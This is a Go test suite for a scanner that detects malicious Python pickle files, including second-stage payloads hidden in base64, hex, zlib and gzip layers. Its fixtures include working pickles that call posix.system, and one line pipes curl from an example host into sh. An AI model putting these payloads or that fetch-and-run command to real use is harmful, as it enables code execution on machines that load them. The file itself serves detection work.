package pickle

import (
	"bytes"
	"compress/gzip"
	"compress/zlib"
	"context"
	"encoding/base64"
	"encoding/binary"
	"encoding/hex"
	"strings"
	"testing"

	"github.com/mlsec/mlsec/internal/rule"
)

func binUnicode(s string) string {
	var n [4]byte
	binary.LittleEndian.PutUint32(n[:], uint32(len(s)))
	return "X" + string(n[:]) + s
}

func binBytes(b []byte) string {
	var n [4]byte
	binary.LittleEndian.PutUint32(n[:], uint32(len(b)))
	return "B" + string(n[:]) + string(b)
}

// holder is {'blob': value} in protocol 3, with no global at all.
func holder(valueOp string) []byte {
	return []byte("\x80\x03}" + binUnicode("blob") + valueOp + "s.")
}

func stageIssue(t *testing.T, p []byte) *Issue {
	t.Helper()
	res := Scan(context.Background(), bytes.NewReader(p), Options{})
	if res.Incomplete != nil {
		t.Fatalf("incomplete: %v", res.Incomplete)
	}
	var found *Issue
	for i := range res.Issues {
		if res.Issues[i].Class == ClassSecondStage {
			if found != nil {
				t.Fatalf("two second-stage issues: %+v", res.Issues)
			}
			found = &res.Issues[i]
		}
	}
	return found
}

func TestSecondStage(t *testing.T) {
	payload := []byte("\x80\x02cposix\nsystem\n(" + binUnicode("id") + "tR.")
	benign := []byte("\x80\x02}q\x00" + binUnicode("lr") + "G?\xb9\x99\x99\x99\x99\x99\x9as.")
	z := func(b []byte) []byte {
		var buf bytes.Buffer
		w := zlib.NewWriter(&buf)
		w.Write(b)
		w.Close()
		return buf.Bytes()
	}
	gz := func(b []byte) []byte {
		var buf bytes.Buffer
		w := gzip.NewWriter(&buf)
		w.Write(b)
		w.Close()
		return buf.Bytes()
	}
	b64 := base64.StdEncoding.EncodeToString
	for _, tc := range []struct {
		name   string
		value  string
		sev    rule.Severity
		layers string
	}{
		{"raw pickle in bytes", binBytes(payload), rule.High, "this value"},
		{"base64 str", binUnicode(b64(payload)), rule.High, "(base64)"},
		{"urlsafe base64 without padding", binUnicode(strings.TrimRight(base64.URLEncoding.EncodeToString(payload), "=")), rule.High, "(base64)"},
		{"hex str", binUnicode(hex.EncodeToString(payload)), rule.High, "(hex)"},
		{"zlib bytes", binBytes(z(payload)), rule.High, "(zlib)"},
		{"base64 of gzip", binUnicode(b64(gz(payload))), rule.High, "(base64 → gzip)"},
		{"base64 of base64", binUnicode(b64([]byte(b64(payload)))), rule.High, "(base64 → base64)"},
		{"benign pickle", binUnicode(b64(benign)), rule.Low, "(base64)"},
		{"protocol 0 pickle", binBytes([]byte("cposix\nsystem\n(S'id'\ntR.")), rule.High, "this value"},
	} {
		is := stageIssue(t, holder(tc.value))
		if is == nil {
			t.Errorf("%s: no second-stage issue", tc.name)
			continue
		}
		if is.Severity != tc.sev || !strings.Contains(is.Message, tc.layers) || is.Offset == 0 {
			t.Errorf("%s: got %s at %d %q", tc.name, is.Severity, is.Offset, is.Message)
		}
		if tc.sev == rule.High && !strings.Contains(is.Message, "system") {
			t.Errorf("%s: message does not name the call: %q", tc.name, is.Message)
		}
	}
	for name, v := range map[string]string{
		"text":          binUnicode("the quick brown fox jumps over the lazy dog"),
		"identifier":    binUnicode("running_mean_and_variance"),
		"zero bytes":    binBytes(make([]byte, 64)),
		"random base64": binUnicode(b64([]byte("just some bytes that are not a pickle at all"))),
		"hex digest":    binUnicode("9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"),
		"zlib of text":  binBytes(z([]byte("hello hello hello hello"))),
		"curl command":  binUnicode("curl -s https://models-cdn.example/update.sh | sh"),
		"corrupt zlib":  binBytes([]byte("\x78\x9c\x00\x01\x02\x03\x04\x05\x06\x07\x08\x09\x0a\x0b\x0c\x0d")),
		"truncated pkl": binBytes(payload[:len(payload)-3]),
	} {
		if is := stageIssue(t, holder(v)); is != nil {
			t.Errorf("%s: unexpected second stage %+v", name, is)
		}
	}
}

// A second stage inside a second stage is followed to maxStageDepth.
func TestSecondStageDepth(t *testing.T) {
	payload := []byte("\x80\x02cposix\nsystem\n(" + binUnicode("id") + "tR.")
	inner := holder(binBytes(payload))
	is := stageIssue(t, holder(binBytes(inner)))
	if is == nil || is.Severity != rule.High {
		t.Fatalf("nested second stage: %+v", is)
	}
}

// Unknown globals rated by the shape of their use.
func TestUnknownShapes(t *testing.T) {
	for _, tc := range []struct {
		name string
		p    string
		sev  rule.Severity
	}{
		{"NEWOBJ then BUILD", "\x80\x02cacme.m\nScorer\n)\x81}" + binUnicode("k") + "K\x01sb.", rule.Low},
		{"reconstructor", "\x80\x02ccopyreg\n_reconstructor\ncacme.m\nScorer\nc__builtin__\nobject\nN\x87R}b.", rule.Low},
		{"REDUCE () then BUILD", "\x80\x02cacme.m\nScorer\n)R}" + binUnicode("k") + "K\x01sb.", rule.Low},
		{"REDUCE () alone", "\x80\x02cacme.m\nScorer\n)R.", rule.Medium},
		{"bare reference", "\x80\x02cacme.m\nScorer\n.", rule.Medium},
		{"called with a string", "\x80\x02cacme.m\nrun\n(" + binUnicode("id") + "tR.", rule.High},
		{"called with bytes", "\x80\x03cacme.m\nrun\n(C\x02idtR.", rule.High},
		{"result called again", "\x80\x02cacme.m\nget\n)R)R.", rule.High},
		{"rebuilt and called with a string", "\x80\x02cacme.m\nScorer\n)\x81}b0cacme.m\nScorer\n(" + binUnicode("x") + "tR.", rule.High},
	} {
		res := Scan(context.Background(), strings.NewReader(tc.p), Options{})
		var got []Issue
		for _, is := range res.Issues {
			if is.Class == ClassUnknownGlobal {
				got = append(got, is)
			}
		}
		if len(got) != 1 || got[0].Severity != tc.sev || res.Incomplete != nil {
			t.Errorf("%s: got %+v (incomplete %v), want one unknown global at %s", tc.name, got, res.Incomplete, tc.sev)
			continue
		}
		if tc.sev == rule.Low && !strings.Contains(got[0].Message, "model.allow") {
			t.Errorf("%s: low finding without the allowlist hint: %q", tc.name, got[0].Message)
		}
	}
}

// Cython's __pyx_unpickle_X is as safe as the class X it rebuilds.
func TestPyxUnpickle(t *testing.T) {
	call := func(mod, cls string) string {
		return "\x80\x04c" + mod + "\n__pyx_unpickle_" + cls + "\nc" + mod + "\n" + cls + "\nJ\x01\x02\x03\x04N\x87R."
	}
	res := Scan(context.Background(), strings.NewReader(call("sklearn._loss._loss", "CyHalfBinomialLoss")), Options{})
	if len(res.Issues) != 0 {
		t.Errorf("allowlisted Cython class: %+v", res.Issues)
	}
	res = Scan(context.Background(), strings.NewReader(call("acme.fast", "Kernel")), Options{})
	if len(res.Issues) != 2 {
		t.Errorf("unknown Cython class: want the unpickler and the class reported, got %+v", res.Issues)
	}
}

func TestNumPyScalarTypes(t *testing.T) {
	res := Scan(context.Background(), strings.NewReader("\x80\x02}X\x05\x00\x00\x00dtypecnumpy\nfloat64\ns."), Options{})
	if len(res.Issues) != 0 {
		t.Errorf("numpy.float64 as a dtype parameter: %+v", res.Issues)
	}
}
